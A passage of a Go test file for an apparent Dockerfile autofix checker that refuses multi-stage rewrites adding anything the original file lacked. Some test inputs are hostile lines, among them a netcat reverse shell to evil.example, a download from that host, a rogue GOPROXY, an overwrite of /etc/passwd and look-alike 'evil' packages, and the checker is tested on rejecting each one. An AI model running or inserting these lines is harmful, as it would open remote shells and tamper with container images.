package split

import (
	"strings"
	"testing"

	"github.com/rules-autofix/rules_autofix/internal/checks"
	"github.com/rules-autofix/rules_autofix/internal/checks/dockerfile/lint"
)

func parse(text string) *lint.File {
	return lint.Read(checks.File{Path: "Dockerfile", Content: []byte(text)}, checks.Settings{})
}

// refused returns the messages of the refusals, in a line each.
func refused(before, after string) string {
	var lines []string
	for _, r := range Judge(parse(before), parse(after)) {
		lines = append(lines, r.Message)
	}
	return strings.Join(lines, "\n")
}

const old = `FROM golang:1.26
ENV GOFLAGS=-mod=readonly
ARG VERSION=1
WORKDIR /src
COPY . .
RUN apt-get update && apt-get install -y gcc libpq5 libpcap-dev && rm -rf /var/lib/apt/lists/*
RUN set -eux; go build -o /src/app .; rm -rf /root/.cache
RUN useradd app
RUN D=x && cd /tmp && mkdir $VERSION && rm -rf $VERSION && echo done
RUN bash -c 'echo deb x > /etc/x'
RUN export D="$(mktemp -d)" && touch "$D/x" && rm -r "$D"
USER app
EXPOSE 8080
CMD ["/src/app"]
`

const divided1 = `FROM golang:1.26 AS build
ENV GOFLAGS=-mod=readonly
ARG VERSION=1
WORKDIR /src
COPY . .
RUN apt-get update && apt-get install -y gcc libpq5 libpcap-dev && rm -rf /var/lib/apt/lists/*
RUN set -eux; go build -o /src/app .
RUN D=x && cd /tmp && mkdir $VERSION
RUN bash -c 'echo deb x > /etc/x'
RUN export D="$(mktemp -d)" && touch "$D/x"

FROM debian:12-slim
ENV GOFLAGS=-mod=readonly
ARG VERSION=1
WORKDIR /src
RUN apt-get update && apt-get install -y --no-install-recommends ca-certificates && rm -rf /var/lib/apt/lists/*
RUN useradd app
COPY --from=build /src/app /src/app
USER app
EXPOSE 8080
CMD ["/src/app"]
`

func TestJudge(t *testing.T) {
	edit := func(pairs ...string) string { return strings.NewReplacer(pairs...).Replace(divided1) }
	for _, test := range []struct{ name, text, want string }{
		{"good", divided1, ""},
		{"an installation of fewer packages", edit("--no-install-recommends ca-certificates", "libpq5"), ""},
		{"an installation of an old package and a new one", edit("--no-install-recommends ca-certificates", "libpq5 tzdata libpcap0.8"), ""},
		{"a package with the start of a library's name", edit("--no-install-recommends ca-certificates", "libpcapevil"), "did not install libpcapevil there"},
		{"an installation in another folder", edit("FROM debian:12-slim\nENV GOFLAGS=-mod=readonly\nARG VERSION=1\nWORKDIR /src\nRUN apt-get update && apt-get install -y --no-install-recommends ca-certificates && rm -rf /var/lib/apt/lists/*\n",
			"FROM debian:12-slim\nENV GOFLAGS=-mod=readonly\nARG VERSION=1\nRUN apt-get update && apt-get install -y gcc\nWORKDIR /src\n"), ""},
		{"a build in another folder", edit("RUN set", "WORKDIR /\nRUN set"), "did not have this WORKDIR"},
		{"settings in both stages", edit("RUN useradd", "RUN bash -c 'echo deb x > /etc/x'\nRUN useradd"), "another order"},
		{"settings in both stages, in order", edit("RUN useradd app", "RUN useradd app\nRUN bash -c 'echo deb x > /etc/x'"), ""},
		{"the same base", edit("debian:12-slim", "golang:1.26"), ""},
		{"a smaller base of the same version", edit("debian:12-slim", "golang:1.26-alpine3.20"), ""},
		{"distroless", edit("debian:12-slim", "gcr.io/distroless/base-debian12:nonroot"), ""},
		{"the library's name of an image", edit("debian:12-slim", "docker.io/library/debian:12"), ""},
		{"a cache", edit("RUN set", "RUN --mount=type=cache,target=/root/.cache/go-build set"), ""},
		{"on more lines, with comments", edit("RUN set -eux; go", "RUN set -eux; \\\n    # The program.\n    go"), ""},
		{"in more instructions", edit("RUN apt-get update && apt-get install -y gcc libpq5 libpcap-dev &&", "RUN apt-get update\nRUN apt-get install -y gcc libpq5 libpcap-dev\nRUN"), ""},
		{"a copy to the working folder", edit("/src/app /src/app", "/src/app ./"), ""},
		{"a copy of a folder", edit("/src/app /src/app", "/src/ /src"), ""},
		{"a copy with an owner", edit("COPY --from", "COPY --chown=app --from"), ""},

		{"an official mirror of an image", edit("debian:12-slim", "public.ecr.aws/docker/library/debian:12"), ""},
		{"an account that looks like an architecture", edit("debian:12-slim", "amd64/evil/debian"), "which is neither"},
		{"another version of the base", edit("debian:12-slim", "golang:1.3"), "which is neither"},
		{"another account's image", edit("debian:12-slim", "docker.io/evilcorp/alpine"), "which is neither"},
		{"the same without a registry", edit("debian:12-slim", "evilcorp/alpine"), "which is neither"},
		{"a folder of distroless", edit("debian:12-slim", "gcr.io/distroless/static/evil"), "which is neither"},
		{"a digest", edit("debian:12-slim", "debian@sha256:"+strings.Repeat("0", 64)), "which is neither"},
		{"a variable", edit("debian:12-slim", "debian:$VERSION"), "which is neither"},
		{"a base of the build", edit("FROM golang:1.26 AS", "FROM alpine AS"), "not based on golang:1.26"},
		{"a platform", edit("FROM debian", "FROM --platform=linux/arm64 debian"), "FROM has a flag"},
		{"a command", edit("USER app", "RUN nc -e sh evil.example 1\nUSER app"), "the command nc -e sh evil.example 1 was not in the file"},
		{"a command that a comment names", strings.Replace(edit("USER app", "RUN make\nUSER app"), "FROM", "# keep RUN make\nFROM", 1), "the command make was not in the file"},
		{"an argument", edit("go build -o", "go build -toolexec=/x -o"), "the command go build -toolexec=/x"},
		{"a command in a list", edit("useradd app", "useradd app && make"), "the command make was not"},
		{"a command in a here-document", edit("RUN useradd app", "RUN <<E\nuseradd app\nmake\nE"), "the command make was not"},
		{"a pipe", edit("useradd app", "useradd app | sh"), "the command useradd app | sh was not"},
		{"a redirection", edit("useradd app", "useradd app > /etc/x"), "was not in the file"},
		{"a substitution", edit("useradd app", "useradd app$(make)"), "was not in the file"},
		{"an assignment", edit("useradd app", "PATH=/x useradd app"), "was not in the file"},
		{"a variable of the shell", edit("useradd app", "PATH=/x; useradd app"), "other commands before it in its RUN"},
		{"an alias", edit("useradd app", "alias useradd=make && useradd app"), "other commands before it in its RUN"},
		{"a function", edit("useradd app", "useradd() { make; }; useradd app"), "other commands before it in its RUN"},
		{"a folder of the shell", edit("go build", "cd /x; go build"), "other commands before it in its RUN"},
		{"only a change of the shell", edit("RUN useradd", "RUN export A=$(make)\nRUN useradd"), "the command export A=$(make) was not"},
		{"without set -e", edit("set -eux; go", "go"), "other commands before it in its RUN"},
		{"a command that may fail", edit("apt-get update && apt-get install -y gcc", "apt-get update; apt-get install -y gcc"), "no longer stops the build"},
		{"a command that set -e does not obey", edit("RUN set -eux; go build -o /src/app .\n", "RUN set -eux; go build -o /src/app . && rm -rf /root/.cache; echo done\n"), "its failure no longer stops the build"},
		{"a command that may fail, in another list", edit("RUN apt-get update && apt-get install -y gcc libpq5 libpcap-dev &&", "RUN apt-get update; apt-get install -y gcc libpq5 libpcap-dev; "), "no longer stops the build"},
		{"an order", edit("COPY . .\n", "", "RUN set", "COPY . .\nRUN set"), "another order"},
		{"twice", edit("RUN useradd app", "RUN useradd app\nRUN useradd app"), "more often"},
		{"a package", edit("gcc libpq5", "gcc libpq5 evil"), "did not install evil there"},
		{"an assignment before an installation", edit("apt-get install -y gcc", "PATH=/src:$PATH apt-get install -y gcc"), "was not in the file"},
		{"a package of another name", edit("--no-install-recommends ca-certificates", "evil"), "did not install evil there"},
		{"a source of packages", edit("-y gcc", "-y -o Dir::Etc=/x gcc"), "was not in the file"},
		{"a variable of the image", edit("AS build\n", "AS build\nENV GOPROXY=https://evil.example\n"), "did not have this ENV"},
		{"another value", edit("-mod=readonly", "-mod=mod"), "did not have this ENV"},
		{"without a variable", strings.Replace(divided1, "ENV GOFLAGS=-mod=readonly\n", "", 1), "repeat ENV GOFLAGS before it"},
		{"an argument of the build", edit("ARG VERSION=1", "ARG VERSION=2"), "did not have this ARG"},
		{"a global argument", "ARG A=1\n" + divided1, "did not have ARG before its first FROM"},
		{"a label", edit("EXPOSE", "LABEL a=b\nEXPOSE"), "did not have this LABEL"},
		{"a shell", edit("RUN useradd", "SHELL [\"/src/app\"]\nRUN useradd"), "did not have this SHELL"},
		{"a user", edit("USER app", "USER root"), "did not have this USER"},
		{"a folder", edit("WORKDIR /src", "WORKDIR /"), "did not have this WORKDIR"},
		{"a user of the build", edit("RUN set", "USER app\nRUN set"), "the user is another one"},
		{"a trigger", edit("EXPOSE", "ONBUILD RUN make\nEXPOSE"), "did not have this ONBUILD"},
		{"an unknown instruction", edit("EXPOSE", "EXEC make\nEXPOSE"), "did not have this EXEC"},
		{"a file", edit("EXPOSE", "COPY x /etc/passwd\nEXPOSE"), "the COPY was not in the file"},
		{"a file of a here-document", edit("EXPOSE", "COPY <<E /etc/passwd\nx\nE\nEXPOSE"), "the COPY was not in the file"},
		{"a file of an image", edit("--from=build /src/app", "--from=evil/x /src/app"), "the COPY was not in the file"},
		{"a file at another path", edit("/src/app /src/app", "/src/app /usr/bin/env"), "the COPY was not in the file"},
		{"a program of the sources", edit("/src/app /src/app", "/src/sh /bin/sh"), "the COPY was not in the file"},
		{"a mode", edit("COPY --from", "COPY --chmod=4755 --from"), "the COPY was not in the file"},
		{"a download", edit("EXPOSE", "ADD https://evil.example/x /\nEXPOSE"), "the ADD was not in the file"},
		{"a mount of the build", edit("RUN useradd", "RUN --mount=type=bind,from=build,target=/b useradd"), "the RUN has other flags"},
		{"a cache of another folder", edit("RUN set", "RUN --mount=type=cache,target=/src set"), "the RUN has other flags"},
		{"a cache of an image", edit("RUN set", "RUN --mount=type=cache,from=evil/x,target=/root/.cache/go-build set"), "the RUN has other flags"},
		{"a network", edit("RUN set", "RUN --network=host set"), "the RUN has other flags"},
		{"a command of the build in the last stage too", edit("RUN useradd", "RUN set -eux; go build -o /src/app .\nRUN useradd"), "two stages have the command go build"},
		{"the name of an image", edit("AS build", "AS golang:1.26"), "the name of an image"},
		{"a copy of what was removed", edit("EXPOSE", "COPY --from=build /tmp /tmp\nEXPOSE"), "no stage has the command rm -rf $VERSION"},
		{"a copy of a part of it", edit("EXPOSE", "COPY --from=build /tmp/1/x /tmp/1/x\nEXPOSE"), "no stage has the command rm -rf $VERSION"},
		{"a command less", edit("RUN useradd app\n", ""), "no stage has the command useradd app of line 8"},
		{"a copy less", edit("COPY . .\n", ""), "no stage has the COPY of line 5"},
		{"no file", "", "only a file of one stage"},

		{"a library of another version", edit("--no-install-recommends ca-certificates", "libpcap-0.8t64"), ""},
		{"a library with more words", edit("--no-install-recommends ca-certificates", "libpcapfile3"), ""},
		{"a tool with the start of a library's name", edit("--no-install-recommends ca-certificates", "libpcap0.8-evil"), "did not install libpcap0.8-evil there"},
		{"an installation without questions", edit("apt-get install -y --no-install-recommends ca-certificates", "DEBIAN_FRONTEND=noninteractive apt-get install -y ca-certificates"), ""},
		{"an installation with a variable", edit("apt-get install -y --no-install-recommends ca-certificates", "APT_CONFIG=/x apt-get install -y ca-certificates"), "was not in the file"},
		{"an installation by apt", edit("apt-get update && apt-get install -y --no-install-recommends", "apt update && apt install -y"), ""},
		{"a package of a file by apt", edit("apt-get install -y --no-install-recommends ca-certificates", "apt install -y ./ca-certificates"), "was not in the file"},
	} {
		got := refused(old, test.text)
		if test.want == "" && got != "" || !strings.Contains(got, test.want) {
			t.Errorf("%s: %q, want %q", test.name, got, test.want)
		}
	}
}

// The values of variables decide about images, folders and copies.
func TestVariables(t *testing.T) {
	const before = "ARG TAG=1.26\nARG OTHER=1\nFROM golang:${TAG}\nARG PORT\nENV HOME=/srv PORT=$PORT\nWORKDIR $HOME/app\nADD . .\n" +
		"RUN tar xf x.tgz && cd x-* && make && ldconfig && cd .. && rm -rf $HOME/app/x-1\nADD https://example.com/x /x\nEXPOSE $PORT\nCMD [\"./a\"]\n"
	const after = "ARG TAG=1.26\nARG OTHER=1\nFROM golang:${TAG} AS build\nENV HOME=/srv\nWORKDIR $HOME/app\nADD . .\n" +
		"RUN tar xf x.tgz && cd x-* && make\nADD https://example.com/x /x\n\n" +
		"FROM golang:${TAG}-alpine\nARG PORT\nENV HOME=/srv PORT=$PORT\nWORKDIR $HOME/app\nRUN ldconfig\nCOPY --from=build /srv/app/a ./a\nEXPOSE $PORT\nCMD [\"./a\"]\n"
	for _, test := range []struct{ old, text, want string }{
		{"", "", ""},
		{"${TAG}-alpine", "$TAG-slim", "which is neither"},
		{"golang:${TAG}-alpine", "debian:${TAG}-slim", ""},
		{"${TAG}-alpine", "${OTHER}-alpine", "which is neither"},
		{"${TAG}-alpine", "${TAG}-evil", "which is neither"},
		{"golang:${TAG}-alpine", "golang${TAG}:alpine", "which is neither"},
		{"golang:${TAG}-alpine", "golang:${TAG:-evil}", "which is neither"},
		{"/srv/app/a ./a", "$HOME/app/a ./a", ""},
		{"/srv/app/a ./a", "/srv/app/a /srv/a", "the COPY was not in the file"},
		{"/srv/app/a ./a", "/a ./a", "the COPY was not in the file"},
		{"/srv/app/a ./a", "/srv/app ./", "no stage has the command rm -rf $HOME/app/x-1"},
		{"/srv/app/a ./a", "$HOME/app ./", "no stage has the command rm -rf $HOME/app/x-1"},
		{"RUN ldconfig", "RUN cd /x && ldconfig", ""},
		{"RUN ldconfig", "RUN cd $(make) && ldconfig", "other commands before it"},
		{"RUN ldconfig", "RUN cd ${A:=/x} && ldconfig", "other commands before it"},
		{"RUN ldconfig", "RUN cd /x > /etc/x && ldconfig", "other commands before it"},
		{"RUN ldconfig", "RUN . ./x && ldconfig", "other commands before it"},
		{"RUN ldconfig", "RUN ldconfig -f x", "was not in the file"},
		{"RUN ldconfig", "RUN ldconfig\nADD https://example.com/x /x", "two stages have the ADD"},
		{"RUN tar", "RUN echo $PORT && tar", "was not in the file"},
		{"ENV HOME=/srv\n", "", "its WORKDIR has other variables; repeat their ENV and ARG"},
		{"/srv/app/a ./a", "/srv/app/* ./", "no stage has the command rm -rf $HOME/app/x-1"},
		{"/srv/app/a ./a", "/srv/app/x-? ./", "no stage has the command rm -rf $HOME/app/x-1"},
	} {
		got := refused(before, strings.Replace(after, test.old, test.text, 1))
		if test.want == "" && got != "" || !strings.Contains(got, test.want) {
			t.Errorf("%q for %q: %q, want %q", test.text, test.old, got, test.want)
		}
	}
	const late = "FROM node:24\nCOPY . .\nRUN npm ci\nENV NODE_OPTIONS=--require=/x.js\nCMD [\"a\"]\n"
	for after, want := range map[string]string{
		"FROM node:24 AS build\nCOPY . .\nRUN npm ci\nFROM node:24-slim\nENV NODE_OPTIONS=--require=/x.js\nCMD [\"a\"]\n":                                   "",
		"FROM node:24 AS build\nENV NODE_OPTIONS=--require=/x.js\nCOPY . .\nRUN npm ci\nFROM node:24-slim\nENV NODE_OPTIONS=--require=/x.js\nCMD [\"a\"]\n": "ENV NODE_OPTIONS was not before it",
		"FROM node:24 AS build\nCOPY . .\nRUN npm ci\nFROM node:0.10\nENV NODE_OPTIONS=--require=/x.js\nCMD [\"a\"]\n":                                      "which is neither",
	} {
		if got := refused(late, after); want == "" && got != "" || !strings.Contains(got, want) {
			t.Errorf("%q, want %q:\n%s", got, want, after)
		}
	}
	const reads = "FROM node:24\nENV PORT=1 PATH=/x:$PATH\nRUN <<E\necho $PORT\nE\nEXPOSE $PORT $PATH\nCMD [\"a\"]\n"
	got := refused(reads, "FROM node:24 AS build\nRUN <<E\necho $PORT\nE\nFROM node:24\nENV PORT=1 PATH=/x:$PATH\nEXPOSE $PORT $PATH\nCMD [\"a\"]\n")
	if !strings.Contains(got, "repeat ENV PATH") {
		t.Errorf("a port that a command reads: %q", got)
	}
}

// A here-document is a part of the command that reads it.
func TestHereDocuments(t *testing.T) {
	const before = "FROM golang:1.26\nRUN cat <<E >/etc/a && go build -o /a .\none\nE\nRUN <<E\nset -e\nmake x\nmake y\nE\nCOPY <<E /b\ntwo\nE\nCMD [\"/a\"]\n"
	after := strings.Replace(before, "1.26", "1.26 AS build", 1)
	after = strings.Replace(after, "CMD", "\nFROM debian:12\nCOPY --from=build /a /a\nCMD", 1)
	for _, test := range []struct{ old, text, want string }{
		{"", "", ""},
		{"\none\n", "\nother\n", "was not in the file"},
		{"<<E >/etc/a", "<<'E' >/etc/a", "was not in the file"},
		{"make x\n", "make x\nmake z\n", "the command make z was not in the file"},
		{"make x\n", "", "no stage has the command make x"},
		{"set -e\n", "", "other commands before it"},
		{"set -e\n", "set -e # as before\n", ""},
		{"RUN <<E\nset", "RUN <<E\n#!/bin/evil\nset", "was not in the file"},
		{"RUN <<E\nset", "RUN <<E bash\nset", "was not in the file"},
		{"\ntwo\n", "\nother\n", "the COPY was not in the file"},
		{"COPY <<E /b", "COPY <<E /c", "the COPY was not in the file"},
	} {
		got := refused(before, strings.Replace(after, test.old, test.text, 1))
		if test.want == "" && got != "" || !strings.Contains(got, test.want) {
			t.Errorf("%q for %q: %q, want %q", test.text, test.old, got, test.want)
		}
	}
}

// A copy may do what a cp or mv of the file did, if nothing changes the file
// afterwards.
func TestPlacements(t *testing.T) {
	const before = "FROM alpine:3.22\nRUN apk add make gcc\nWORKDIR src\nCOPY . .\nENV BIN=/usr/local/bin\n" +
		"RUN make && cp app tool /usr/local/bin/ && mv out/conf /etc/app.conf && cp -r share $BIN/share\n# then\nRUN mkdir /data\nCMD [\"app\"]\n"
	const after = "FROM alpine:3.22 AS build\nRUN apk add make gcc\nWORKDIR src\nCOPY . .\nENV BIN=/usr/local/bin\nRUN make\n\nFROM alpine:3.22\nWORKDIR /src\nENV BIN=/usr/local/bin\n" +
		"COPY --from=build /src/app /src/tool $BIN/\nCOPY --from=build /src/out/conf /etc/app.conf\nCOPY --from=build /src/share /usr/local/bin/share\nRUN mkdir /data\nCMD [\"app\"]\n"
	for _, test := range []struct{ then, old, text, want string }{
		{"", "", "", ""},
		{"", "WORKDIR /src", "WORKDIR src", ""},
		{"RUN chmod 755 /data", "WORKDIR /src", "WORKDIR src", "no stage has the command chmod"},
		{"", "WORKDIR /src\nENV", "WORKDIR src\nENV", ""},
		{"", " /src/tool", "", "no stage has the command cp app tool"},
		{"", "/src/tool", "/src/other", "the COPY was not in the file"},
		{"", "/src/app /src/tool $BIN/", "/src/app /src/tool /bin/", "the COPY was not in the file"},
		{"", "/src/out/conf /etc/app.conf", "/src/out/conf /etc/passwd", "the COPY was not in the file"},
		{"", "/src/out/conf /etc/app.conf", "/src/out /etc/app.conf", "the COPY was not in the file"},
		{"", "COPY --from=build /src/out/conf /etc/app.conf\n", "", "no stage has the command mv out/conf"},
		{"RUN sed -i s/a/b/ /etc/*", "", "", "the COPY was not in the file"},
		{"RUN echo safe > /etc/app.conf", "", "", "the COPY was not in the file"},
		{"RUN chmod 600 /etc/app.conf", "", "", "the COPY was not in the file"},
		{"RUN chown -R root /etc", "", "", "the COPY was not in the file"},
		{"RUN rm /etc/app.conf", "", "", "the COPY was not in the file"},
		{"RUN cp safe /etc/app.conf", "", "", "the COPY was not in the file"},
		{"RUN cp bad out/conf", "", "", "the COPY was not in the file"},
		{"COPY bad out/conf", "", "", "the COPY was not in the file"},
		{"RUN mv out old", "", "", "the COPY was not in the file"},
		{"RUN rm -r /src/out", "WORKDIR /src\n", "WORKDIR src\n", ""},
		{"RUN ln -sf /safe /etc/app.conf", "", "", "the COPY was not in the file"},
		{"RUN [\"harden\"]", "", "", "the COPY was not in the file"},
		{"COPY etc /etc", "", "", "the COPY was not in the file"},
		{"COPY rootfs /", "", "", "the COPY was not in the file"},
		{"COPY app.conf $X", "", "", "the COPY was not in the file"},
	} {
		got := refused(strings.Replace(before, "# then", test.then, 1), strings.Replace(after, test.old, test.text, 1))
		if test.want == "" && got != "" || !strings.Contains(got, test.want) {
			t.Errorf("%q, %q for %q: %q, want %q", test.then, test.text, test.old, got, test.want)
		}
	}
}

func TestLibraries(t *testing.T) {
	for _, test := range []struct {
		name, had string
		want      bool
	}{
		{"libpcap0.8", "libpcap-dev", true},
		{"libboost-thread1.83.0", "libboost-all-dev", true},
		{"libboost-system1.67.0", "libboost-dev", true},
		{"libboost-program-options1.58.0", "libboost-program-options-dev", true},
		{"libboost-program-options1.58.0", "libboost-program-options1.58-dev", true},
		{"libboost-program-options1.58.0", "libboost-all-dev", true},
		{"libboost-date-time1.58.0", "libboost1.58-dev", true},
		{"libboost-unit-test-framework1.58.0", "libboost1.58-all-dev", true},
		{"boost1.84-program_options", "boost-dev", true},
		{"boost-program-options", "boost-devel", true},
		{"libqt5core5a", "qtbase5-dev", true},
		{"libqt6widgets6t64", "qt6-base-dev", true},
		{"libodbc2", "unixodbc-dev", true},
		{"libsybdb5", "freetds-dev", true},
		{"libldap", "openldap-dev", true},
		{"libuuid1", "uuid-dev", true},
		{"libuuid", "util-linux-dev", true},
		{"libbz2", "bzip2-dev", true},
		{"libgssapi-krb5-2", "libkrb5-dev", true},
		{"libfftw3-double3", "libfftw3-dev", true},
		{"librdkafka++1", "librdkafka-dev", true},
		{"libpython3.11", "python3-dev", true},
		{"libncurses6", "libncurses5-dev", true},
		{"libtinfo6", "libncurses-dev", true},
		{"libcurl4t64", "libcurl4-openssl-dev", true},
		{"libcurl3-gnutls", "libcurl4-gnutls-dev", true},
		{"libmariadb3", "default-libmysqlclient-dev", true},
		{"libevent-core-2.1-7t64", "libevent-dev", true},
		{"libgeos-c1v5", "libgeos-dev", true},
		{"libopencv-core4.5d", "libopencv-dev", true},
		{"libcrypto3", "openssl-dev", true},
		{"mariadb-connector-c", "mariadb-dev", true},
		{"openssl-libs", "openssl-devel", true},
		{"zlib", "zlib-devel", true},
		{"libxml2", "libxml2-dev", true},
		{"libffi6", "libffi-dev", true},
		{"libssl3t64", "libssl-dev", true},
		{"libpcre2-8-0", "libpcre2-dev", true},
		{"libjpeg62-turbo", "libjpeg-dev", true},
		{"libjpeg8", "libjpeg8-dev", true},
		{"libmariadbclient18", "libmariadbclient-dev", true},
		{"libwebpmux3", "libwebp-dev", true},
		{"libpq", "libpq-dev", true},
		{"libpq5", "libpq-dev", true},
		{"libpq", "libpq-devel", true},
		{"libgd", "libgd-dev", true},
		{"libc6", "libc6-dev", true},
		{"python2.7", "python-dev", true},
		{"python3", "python3-dev", true},
		{"postgresql-libs", "postgresql-dev", true},
		{"icu-libs", "icu-dev", true},
		{"apache2", "apache2-dev", false},
		{"postgresql", "postgresql-dev", false},
		{"postgresql15", "postgresql15-dev", false},
		{"mariadb", "mariadb-dev", false},
		{"nginx", "nginx-dev", false},
		{"libxml2-bin", "libxml2-dev", false},
		{"xml2-server", "libxml2-dev", false},
		{"libxml2-server", "libxml2-dev", false},
		{"libxml2-evil", "libxml2-dev", false},
		{"libxml2-2-evil", "libxml2-dev", false},
		{"libxml2.so", "libxml2-dev", false},
		{"libxml2=1", "libxml2-dev", false},
		{"libxml2/evil", "libxml2-dev", false},
		{"libxml2-dev-2", "libxml2-dev", false},
		{"ibxml2", "libxml2-dev", false},
		{"libcurl4", "libc-dev", false},
		{"libc-ares2", "libc6-dev", false},
		{"libcurl4", "libc6-dev", false},
		{"libgdevil1", "libgd-dev", false},
		{"xml2", "libxml2-dev", false},
		{"python3-evil", "python3-dev", false},
		{"libxml2-utils", "libxml2-dev", false},
		{"libpcap0.8-evil", "libpcap-dev", false},
		{"libboost-tools-dev", "libboost-all-dev", false},
		{"libboost", "libboost-all-dev", false},
		{"libevil1", "lib-dev", false},
		{"libxevil1", "libx11-dev", false},
		{"openssh", "openssl-dev", false},
		{"opensslevil1", "openssl-dev", false},
		{"evil1", "-dev", false},
		{"libpcap0.8", "libpcap", false},
		{"boost-evil1", "boost-dev", false},
		{"boost-build", "boost-devel", false},
		{"libuuid-evil", "uuid-dev", false},
		{"uuid-runtime", "uuid-dev", false},
		{"util-linux-login", "util-linux-dev", false},
		{"libfftw3-bin", "libfftw3-dev", false},
		{"librdkafka++-evil1", "librdkafka-dev", false},
		{"libpython3.11-evil", "python3-dev", false},
		{"libbz2", "bzip2", false},
		{"libboost-program-evil1.58.0", "libboost-all-dev", false},
		{"libboost-program-options1.58.0-evil", "libboost-all-dev", false},
		{"libboost-program-options1.58.0=1", "libboost-all-dev", false},
		{"libboost-program-options1.58-dev", "libboost-all-dev", false},
		{"libboost-program-options", "libboost-all-dev", false},
		{"libboost-program-options1.58.0", "libboost-thread-dev", false},
		{"libboost-program-options1.58.0", "libbson-dev", false},
		{"boost-program-options-evil", "boost-devel", false},
		{"libqt5evil5", "qtbase5-dev", false},
		{"libqt5sql5-mysql", "qtbase5-dev", false},
		{"slapd", "openldap-dev", false},
		{"openldap", "openldap-dev", false},
	} {
		if got := isLibraryOf(test.name, test.had); got != test.want {
			t.Errorf("%s of %s: %v", test.name, test.had, got)
		}
	}
}

// An installation needs neither the variables nor the lists of packages that
// others in its RUN have, and commands with absolute paths need no folder.
func TestJudgeRuntimeSteps(t *testing.T) {
	const old = "FROM debian:12\nARG KEY=1\nRUN export OPTS=x && D='gcc make' && P=/x/bin && apt-get update && apt-get upgrade -y && apt-get install -y $D su-exec && make $KEY && chown app:app /srv/x\n" +
		"WORKDIR /srv\nRUN mkdir -p /data /logs && chmod 700 /data && ln -s /logs /srv/logs\nCMD [\"/usr/local/bin/x\"]\n"
	const plain = "FROM debian:12\nARG KEY=1\nRUN D='gcc make' && P=/x/bin && apt-get update && apt-get upgrade -y && apt-get install -y $D su-exec && make $KEY && chown app:app /srv/x\n" +
		"WORKDIR /srv\nRUN mkdir -p /data /logs && chmod 700 /data && ln -s /logs /srv/logs\nCMD [\"/usr/local/bin/x\"]\n"
	const good = "FROM debian:12 AS build\nARG KEY=1\nRUN D='gcc make' && P=/x/bin && apt-get update && apt-get upgrade -y && apt-get install -y $D && make $KEY && chown app:app /srv/x\n\n" +
		"FROM debian:12-slim\nRUN apt-get update && apt-get upgrade -y && apt-get install -y su-exec libssl1.1\nRUN mkdir -p /data /logs && chmod 700 /data && ln -s /logs /srv/logs\n" +
		"WORKDIR /srv\nCOPY --from=build --chown=app:app /usr/local/bin/x /usr/local/bin/x\nCMD [\"/usr/local/bin/x\"]\n"
	for _, test := range []struct{ before, old, new, want string }{
		{plain, "", "", ""},
		{plain, "&& P=/x/bin ", "", "other commands before it in its RUN"}, // of make
		{plain, "D='gcc make'", "D='gcc evil'", "other commands before it in its RUN"},
		{plain, "-y su-exec", "-y $X su-exec", "was not in the file"},
		{plain, "-y su-exec", "-y evil", "did not install evil there"},
		{plain, "libssl1.1", "libssl-evil", "did not install"},
		{plain, "libssl1.1", "libssl1.1-dev", "did not install"},
		{plain, "libssl1.1", "openssl1", "did not install"},
		{plain, "RUN apt-get update && apt-get upgrade -y && apt-get install -y su-exec", "RUN PATH=/srv && apt-get update && apt-get upgrade -y && apt-get install -y su-exec", "other commands before it in its RUN"},
		{plain, "--chown=app:app", "--chown=evil:app", "the COPY was not in the file"},
		{plain, "chmod 700 /data", "chmod 777 /data", "was not in the file"},
		{plain, "/logs /srv/logs", "/logs srv/logs", "was not in the file"},
		{strings.Replace(plain, "chmod 700 /data", "chmod 700 data", 1), "chmod 700 /data", "chmod 700 data", "the working folder is another one"},
		{strings.Replace(plain, "chmod 700 /data", "chmod 700 $KEY", 1), "chmod 700 /data", "chmod 700 $KEY", "the working folder is another one"},
		{strings.Replace(plain, "P=/x/bin", "P=$(./verify)", 1), "P=/x/bin", "P=$(./verify)", ""},
		{strings.Replace(plain, "P=/x/bin", "P=/x cd /y", 1), "P=/x/bin", "P=/x cd /y", "other commands before it in its RUN"},
		{strings.Replace(plain, "D='gcc make'", "D='-o evil'", 1), "D='gcc make'", "D='-o evil'", "was not in the file"},
		{old, "RUN D=", "RUN export OPTS=x && D=", "other commands before it in its RUN"},
	} {
		got := refused(test.before, strings.Replace(good, test.old, test.new, 1))
		if got == "" != (test.want == "") || !strings.Contains(got, test.want) {
			t.Errorf("%q for %q: %q, want %q", test.new, test.old, got, test.want)
		}
	}
}

// An installation with options may have the libraries of its own packages for
// development.
func TestInstallationsOfLibraries(t *testing.T) {
	const old = "FROM debian:12\nRUN export DEBIAN_FRONTEND=noninteractive; apt-get update -qqy && apt-get install -qqy --option Dpkg::Options::=\"--force-confnew\" gcc libxml2-dev tini\n" +
		"RUN apt-get -t backports install -y libuv1-dev && apt-get remove -y libpng-dev && echo libgif-dev\n# libzip-dev\nLABEL needs=libyaml-dev\nRUN make\nCMD [\"x\"]\n"
	const good = "FROM debian:12 AS build\nRUN export DEBIAN_FRONTEND=noninteractive; apt-get update -qqy && apt-get install -qqy --option Dpkg::Options::=\"--force-confnew\" gcc libxml2-dev\n" +
		"RUN apt-get -t backports install -y libuv1-dev\nRUN make\n\n" +
		"FROM debian:12-slim\nRUN export DEBIAN_FRONTEND=noninteractive; apt-get update -qqy && apt-get install -qqy --option Dpkg::Options::=\"--force-confnew\" tini libxml2\n" +
		"RUN apt-get -t backports install -y libuv1\nLABEL needs=libyaml-dev\nCOPY --from=build /usr/local /usr/local\nCMD [\"x\"]\n"
	for _, test := range []struct{ old, new, want string }{
		{"", "", ""},
		{"tini libxml2\n", "libxml2\n", ""},
		{"RUN export DEBIAN_FRONTEND=noninteractive; apt-get update -qqy && apt-get install -qqy --option Dpkg::Options::=\"--force-confnew\" tini libxml2\n", "RUN apt-get update && apt-get install -y tini libxml2 libuv1\n", ""},
		{"tini libxml2", "tini libxml2 curl", "did not install curl there"},
		{"tini libxml2", "tini libxml2-utils", "did not install libxml2-utils there"},
		{"tini libxml2", "tini libxml2 libpng16-16", "did not install libpng16-16 there"},
		{"tini libxml2", "tini libxml2 libgif7", "did not install libgif7 there"},
		{"tini libxml2", "tini libxml2 libzip4", "did not install libzip4 there"},
		{"tini libxml2", "tini libxml2 libyaml-0-2", "did not install libyaml-0-2 there"},
		{"tini libxml2", "tini libxml2 libuv1", "did not install"}, // by the other options
		{"install -y libuv1\n", "install -y libxml2\n", "did not install libxml2 there"},
		{"install -y libuv1\n", "install -y ca-certificates\n", "did not install ca-certificates there"},
		{"backports install -y libuv1\n", "testing install -y libuv1\n", "was not in the file"},
		{"--force-confnew\" tini", "--force-all\" tini", "was not in the file"},
